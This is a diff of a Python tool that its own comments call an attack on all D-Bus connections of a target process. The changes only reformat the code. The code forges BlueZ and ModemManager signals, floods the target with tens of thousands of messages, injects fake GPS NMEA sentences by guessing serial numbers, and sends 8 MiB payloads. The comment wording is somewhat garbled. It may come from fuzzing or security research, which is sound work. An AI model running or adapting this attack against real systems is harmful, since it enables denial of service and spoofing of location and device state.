@@ -1,5 +1,5 @@
-# A program on the bus in DBUS_SYSTEM_BUS_ADDRESS that means the process in the first argument ill. Each line of input is
-# an attack on all connections of that process. Prints a line at the end of each. `own` takes the name of BlueZ,
+# A program on the bus in DBUS_SYSTEM_BUS_ADDRESS that means the process in the first argument ill. Each line of input
+# is an attack on all connections of that process. Prints a line at the end of each. `own` takes the name of BlueZ,
 # `count` counts those connections.
 #
 # dbus-daemon closes a descriptor that it has passed on, too, and waits for that if it is the last one. So those that
@@ -84,7 +84,8 @@ def targets():
     found = []
     for name in names:
         if not name.startswith(":"): continue
-        try: process = bus.call_sync(*BUS, "GetConnectionUnixProcessID", GLib.Variant("(s)", (name,)), None, 0, -1, None)
+        own = GLib.Variant("(s)", (name,))
+        try: process = bus.call_sync(*BUS, "GetConnectionUnixProcessID", own, None, 0, -1, None)
         except GLib.Error: continue
         if process.unpack()[0] == int(sys.argv[1]): found.append(name)
     return found
@@ -147,13 +148,15 @@ def attack(kind):
         elif kind == "modems":
             sentences = "$GPGGA,120000,1000.000,N,02000.000,E,1,08,0.9,545.4,M,46.9,M,,*4D\r\n"
             for number in range(20000):
-                if number % 2: modem(target, MODEMS, OBJECTS, "InterfacesRemoved", GLib.Variant("(oas)", (MODEM, [MANAGER + ".Modem"])))
+                if number % 2: modem(target, MODEMS, OBJECTS, "InterfacesRemoved", GLib.Variant("(oas)", (
+                    MODEM, [MANAGER + ".Modem"])))
                 else: modem(target, MODEM, PROPERTIES, "PropertiesChanged", GLib.Variant("(sa{sv}as)", (
                     MANAGER + ".Modem.Location", {"Enabled": GLib.Variant("u", 1)}, [])))
             for serial in range(1, 2000):
                 guess(target, serial, GLib.Variant("(a{uv})", ({4: GLib.Variant("s", sentences)},)))
             modem(target, BUS[1], BUS[2], "NameOwnerChanged", GLib.Variant("(sss)", (MANAGER, ":1.0", "")))
-            for _ in range(4): modem(target, MODEMS, OBJECTS, "InterfacesAdded", GLib.Variant("(s)", ("y" * (8 << 20),)))
+            large = GLib.Variant("(s)", ("y" * (8 << 20),))
+            for _ in range(4): modem(target, MODEMS, OBJECTS, "InterfacesAdded", large)
         elif kind == "signals":
             for _ in range(20000): changed(target, "Connected", GLib.Variant("b", False))
             message = Gio.DBusMessage.new_signal("/", "org.freedesktop.DBus", "NameOwnerChanged")
